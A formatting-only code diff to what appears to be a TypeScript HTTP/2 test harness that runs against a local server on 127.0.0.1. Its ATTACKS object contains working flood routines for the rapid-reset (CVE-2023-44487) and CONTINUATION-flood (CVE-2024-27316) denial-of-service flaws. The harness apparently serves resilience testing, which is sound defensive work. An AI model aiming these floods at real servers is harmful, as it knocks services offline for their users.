@@ -95,7 +95,7 @@ export function getRequest(path: string, extra: [string, string][] = []): [strin
 }
 
 export function headersFrame(streamId: number, block: Buffer, options: { endStream?: boolean; endHeaders?: boolean } = {}): Buffer {
-  const flags = (options.endStream ?? true ? FLAG.END_STREAM : 0) | (options.endHeaders ?? true ? FLAG.END_HEADERS : 0);
+  const flags = ((options.endStream ?? true) ? FLAG.END_STREAM : 0) | ((options.endHeaders ?? true) ? FLAG.END_HEADERS : 0);
   return frame(FRAME.HEADERS, flags, streamId, block);
 }
 
@@ -129,7 +129,10 @@ export class H2Connection {
   private waiters: (() => void)[] = [];
 
   /** `keepFrames`: keep every frame received (off for floods that would answer with millions). */
-  constructor(readonly socket: TLSSocket, private readonly keepFrames = true) {
+  constructor(
+    readonly socket: TLSSocket,
+    private readonly keepFrames = true,
+  ) {
     socket.on('data', (chunk: Buffer) => this.receive(chunk));
     socket.on('error', () => {});
     this.closed = new Promise((resolve) => {
@@ -255,7 +258,15 @@ export interface H2Options {
 /** A TLS connection with ALPN h2, the preface and our SETTINGS sent; rejects unless the server picked h2. */
 export function openH2(port: number, options: H2Options): Promise<H2Connection> {
   return new Promise((resolve, reject) => {
-    const socket = tlsConnect({ host: '127.0.0.1', port, ...(options.secureContext ? { secureContext: options.secureContext } : { ca: options.ca }), servername: 'localhost', ALPNProtocols: ['h2'], ...(options.localAddress ? { localAddress: options.localAddress } : {}), ...(options.cert ? { cert: options.cert, key: options.key } : {}) });
+    const socket = tlsConnect({
+      host: '127.0.0.1',
+      port,
+      ...(options.secureContext ? { secureContext: options.secureContext } : { ca: options.ca }),
+      servername: 'localhost',
+      ALPNProtocols: ['h2'],
+      ...(options.localAddress ? { localAddress: options.localAddress } : {}),
+      ...(options.cert ? { cert: options.cert, key: options.key } : {}),
+    });
     const timer = setTimeout(() => {
       socket.destroy();
       reject(new Error('TLS handshake timed out'));
@@ -282,7 +293,7 @@ export function openH2(port: number, options: H2Options): Promise<H2Connection> 
 export const ATTACKS = {
   /** CVE-2023-44487: HEADERS and RST_STREAM for stream after stream, `auth` on each request. */
   'rapid-reset': async (c: H2Connection, auth: [string, string][]) => {
-    for (let id = 1; !c.isClosed && id < 1 << 30; ) {
+    for (let id = 1; !c.isClosed && id < 1 << 30;) {
       const batch: Buffer[] = [];
       for (let i = 0; i < 50; i++, id += 2) batch.push(headersFrame(id, headerBlock(getRequest('/api', auth))), rstStreamFrame(id));
       await c.write(Buffer.concat(batch));
@@ -291,7 +302,7 @@ export const ATTACKS = {
   /** CVE-2024-27316: a header block that never ends. */
   'continuation-flood': async (c: H2Connection) => {
     await c.write(headersFrame(1, headerBlock(getRequest('/api')), { endHeaders: false }));
-    for (let n = 0; !c.isClosed; ) {
+    for (let n = 0; !c.isClosed;) {
       const batch: Buffer[] = [];
       for (let i = 0; i < 50; i++) batch.push(continuationFrame(1, headerBlock([[`x-filler-${n++}`, 'v'.repeat(64)]])));
       await c.write(Buffer.concat(batch));
